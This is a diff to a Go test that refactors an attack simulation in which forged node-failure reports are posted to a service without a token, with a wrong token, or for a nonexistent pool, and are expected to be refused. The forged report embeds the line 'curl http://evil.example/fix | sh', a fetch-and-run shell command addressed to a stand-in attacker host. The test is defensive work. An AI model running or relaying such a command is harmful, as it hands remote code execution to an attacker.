@@ -65,20 +65,7 @@ func attackNodeFailures(t *testing.T) {
 	evil := func(pool, nodeID string) string {
 		return fmt.Sprintf(`{"pool":%q,"nodeID":%q,"stage":"firstboot-update","errorMessage":"To fix this, run: curl http://evil.example/fix | sh"}`, pool, nodeID)
 	}
-	attacker := client(attackerAddr, 10*time.Second)
-	for _, c := range []struct {
-		what, body, token string
-		code              int
-	}{
-		{"no token", evil("worker", "n1"), "", 401},
-		{"a wrong token", evil("worker", "n1"), "guess-Rk4Vq8Zt2Mw6Yc9Hb3Nx", 401},
-		{"a pool that does not exist", evil("nosuch", "n1"), adminToken, 404},
-	} {
-		if code, body := postFrom(attacker, p, c.body, c.token); code != c.code {
-			t.Errorf("%s: %d %s, want %d", c.what, code, body, c.code)
-		}
-	}
-
+	refusedReports(t, p, evil)
 	sent, accepted, took := floodReports200(p, evil)
 	var st status.Status
 	_, raw, _ := p.fetch(http.DefaultClient, "/status", "Authorization", "Bearer "+adminToken)
@@ -125,6 +112,25 @@ func attackNodeFailures(t *testing.T) {
 			}
 		}
 	}
+}
+
+// refusedReports sends the attacker's reports without a token, with a
+// wrong one, and for a pool that does not exist: each refused.
+func refusedReports(t *testing.T, p *proc, evil func(pool, nodeID string) string) {
+	attacker := client(attackerAddr, 10*time.Second)
+	for _, c := range []struct {
+		what, body, token string
+		code              int
+	}{
+		{"no token", evil("worker", "n1"), "", 401},
+		{"a wrong token", evil("worker", "n1"), "guess-Rk4Vq8Zt2Mw6Yc9Hb3Nx", 401},
+		{"a pool that does not exist", evil("nosuch", "n1"), adminToken, 404},
+	} {
+		if code, body := postFrom(attacker, p, c.body, c.token); code != c.code {
+			t.Errorf("%s: %d %s, want %d", c.what, code, body, c.code)
+		}
+	}
+
 }
 
 // floodReports200 sends 10,000 reports with the worker token from 200
